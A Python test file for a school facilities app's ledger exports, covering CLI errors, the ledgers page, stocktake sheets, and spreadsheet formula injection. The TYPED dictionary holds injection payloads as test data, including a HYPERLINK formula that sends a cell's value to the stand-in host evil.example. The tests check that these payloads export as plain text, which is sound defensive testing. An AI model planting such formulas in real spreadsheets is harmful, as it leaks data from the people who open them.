"""Ledgers through the CLI and the forms: formula-like text typed into a report, a reporter's name and a place's
name comes back from every workbook exactly as typed and as text, never a formula; the command's errors."""
import csv
import datetime
import io
import uuid

from helpers import csrf_token
from openpyxl import load_workbook

from houqin import db
from houqin.ledgers.catalogue import CATALOGUE
from houqin.assets.stocktake import close_stocktake, confirm_item, open_stocktake, resolve_elsewhere
from houqin.models import Item, Place, StocktakeLine, WorkOrder

TYPED = {'title': '=HYPERLINK("http://evil.example/?x="&B2,"Click")', 'name': '@SUM(1)', 'place': '+1'}


def export(runner, kind, path):
    """Run `flask houqin ledger KIND` over the days around today for the test campus."""
    today = datetime.date.today()
    first, last = (today - datetime.timedelta(days=2)).isoformat(), (today + datetime.timedelta(days=2)).isoformat()
    return runner.invoke(args=['houqin', 'ledger', kind, '--from', first, '--to', last, '--out',
                               str(path), '--campus', 'test'])


def test_typed_formulas_stay_text_in_every_workbook(app, school, runner, tmp_path, as_role):
    manager = as_role('manager')
    building = school['building']
    path = f'/admin/places/{building.id}'
    typed_place = {'csrf_token': csrf_token(manager, path), 'name': TYPED['place'], 'kind': 'building', 'parent': 0, 'code': 'A',
                   'note': ''}
    assert manager.post(path, data=typed_place).status_code == 302  # the manager types the building's name
    client = app.test_client()
    data = {'csrf_token': csrf_token(client, '/t/ABCDEFGH12'), 'submission_id': str(uuid.uuid4()),
            'title': TYPED['title'], 'name': TYPED['name'], 'phone': '-1'}
    assert client.post('/t/ABCDEFGH12/report', data=data).status_code == 302
    with db.database.connection_context():
        order = WorkOrder.get()
        WorkOrder.update(status='done').execute()  # compensation is recorded on a finished job
    path = f'/repairs/{order.id}'
    compensate = {'csrf_token': csrf_token(manager, path), 'action': 'compensate', 'liable_party': '-1',
                  'compensation': '20'}
    assert manager.post(f'{path}/act', data=compensate).status_code == 302
    with db.database.connection_context():
        assert Place.get_by_id(building.id).name == TYPED['place'] and WorkOrder.get().liable_party == '-1'
    texts = set()
    for kind in CATALOGUE:
        path = tmp_path / f'{kind}.xlsx'
        result = export(runner, kind, path)
        assert result.exit_code == 0, result.output
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != 'f', (kind, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
    assert {TYPED['title'], TYPED['name'], '-1', '+1 › 一楼 › 101教室'} <= texts
    result = export(runner, 'repairs', tmp_path / 'repairs.csv')
    assert result.exit_code == 0, result.output
    text = (tmp_path / 'repairs.csv').read_text(encoding='utf-8')
    assert text.startswith('\ufeff')
    rows = list(csv.reader(io.StringIO(text.lstrip('\ufeff'))))
    assert rows[0][0].startswith('测试中心小学 · ') and rows[1][0] == '编号' and len(rows) == 3
    cells = rows[2]
    assert "'" + TYPED['title'] in cells and "'" + TYPED['name'] in cells and "'+1 › 一楼 › 101教室" in cells
    assert not any(c.startswith(('=', '+', '-', '@', '\t', '\r')) for row in rows for c in row)


def test_the_command_refuses_an_unknown_kind_a_bad_date_and_a_bad_suffix(app, school, runner, tmp_path):
    out = tmp_path / 'x.xlsx'
    result = runner.invoke(args=['houqin', 'ledger', 'canteens', '--from', '2026-01-01', '--to', '2026-01-31',
                                 '--out', str(out)])
    assert result.exit_code == 2 and "unknown ledger 'canteens'" in result.output
    assert ', '.join(CATALOGUE) in result.output
    for first, last in (('2026-02-30', '2026-03-01'), ('2026-03-02', '2026-03-01'), ('0001-01-01', '2026-01-01'), ('2020-01-01', '2026-01-01')):
        result = runner.invoke(args=['houqin', 'ledger', 'repairs', '--from', first, '--to', last, '--out', str(out)])
        assert result.exit_code == 2 and f'--from {first} --to {last}' in result.output, result.output
    result = runner.invoke(args=['houqin', 'ledger', 'repairs', '--from', '2026-01-01', '--to', '2026-01-31',
                                 '--out', str(tmp_path / 'x.pdf')])
    assert result.exit_code == 2 and '.xlsx or .csv' in result.output
    result = runner.invoke(args=['houqin', 'ledger', 'repairs', '--from', '2026-01-01', '--to', '2026-01-31',
                                 '--out', str(out), '--campus', 'nope'])
    assert result.exit_code == 2 and "no campus with the code 'nope'" in result.output
    assert not out.exists()


def test_the_ledgers_page_filters_and_downloads(app, school, as_role):
    manager = as_role('manager')
    assert 'href="/ledgers/">台账</a>' in manager.get('/admin/').get_data(as_text=True)  # in the menu
    assert 'href="/ledgers/"' not in as_role('janitor').get('/').get_data(as_text=True)
    page = manager.get('/ledgers/')
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and '台账' in html
    assert all(f'kind={kind}' in html for kind in CATALOGUE)
    response = manager.get('/ledgers/download?kind=assets&format=xlsx&period=week')
    assert response.status_code == 200 and response.data[:2] == b'PK'
    ws = load_workbook(io.BytesIO(response.data)).worksheets[0]
    assert ws.max_row - 2 == 1 and ws.cell(3, 1).value == 'KZ-0001'
    response = manager.get(f'/ledgers/download?kind=repairs&format=csv&period=month&place={school["building"].id}')
    assert response.status_code == 200 and response.get_data(as_text=True).startswith('\ufeff测试中心小学')
    for bad in ('kind=nope', 'kind=assets&format=pdf', 'kind=assets&period=custom&from=2026-02-30&to=x',
                'kind=assets&period=²', 'kind=assets&place=²', 'kind=assets&period=term'):
        assert manager.get('/ledgers/download?' + bad).status_code == 400, bad
    assert manager.get('/ledgers/?person=99999').status_code == 404
    assert manager.get(f'/ledgers/download?kind=assets&place={2 ** 64}').status_code == 400
    assert as_role('janitor').get('/ledgers/').status_code == 403


def test_the_stocktake_sheet_lists_every_asset_with_where_it_was_found(app, school, runner, tmp_path):
    """盘点表: expected and found places, the result, who counted, the resolution and the signature."""
    with db.database.connection_context():
        campus, room, users = school['campus'], school['room'], school['users']
        other = Place.create(campus=campus, parent=school['floor'], name='102教室', kind='classroom')
        chair = Item.create(campus=campus, place=room, kind='chair', name='椅子', asset_number='YZ-1')
        lamp = Item.create(campus=campus, place=other, kind='light', name='台灯', asset_number='TD-1')
        take = open_stocktake(campus, users['manager'], name='期末清点', scope_place=school['floor'],
                              counters=[users['teacher'].id])
        confirm_item(take, users['teacher'], school['desk'], room)
        line = confirm_item(take, users['teacher'], chair, other)  # found in the wrong room
        resolve_elsewhere(take, StocktakeLine.get(StocktakeLine.item == chair).id, 'move')
        close_stocktake(take, users['manager'], '王主任')
        assert line is not None and lamp.id
    path = tmp_path / 'stocktake.xlsx'
    result = export(runner, 'stocktake', path)
    assert result.exit_code == 0, result.output
    ws = load_workbook(path).worksheets[0]
    header = [c.value for c in ws[2]]
    assert header[:6] == ['财产清点', '开始时间', '资产编号', '名称', '应在位置', '结果']
    rows = {r[2]: r for r in ws.iter_rows(min_row=3, values_only=True)}
    assert set(rows) == {school['desk'].asset_number, 'YZ-1', 'TD-1'}
    assert rows['YZ-1'][4].endswith('101教室') and rows['YZ-1'][5] == '在别处找到' and rows['YZ-1'][6].endswith('102教室')
    assert rows['TD-1'][5] == '未找到' and rows['TD-1'][8] is None
    assert rows[school['desk'].asset_number][5] == '找到' and rows['YZ-1'][11] == '王主任'
    assert isinstance(rows['YZ-1'][9], datetime.datetime)  # counted at: a real Excel date
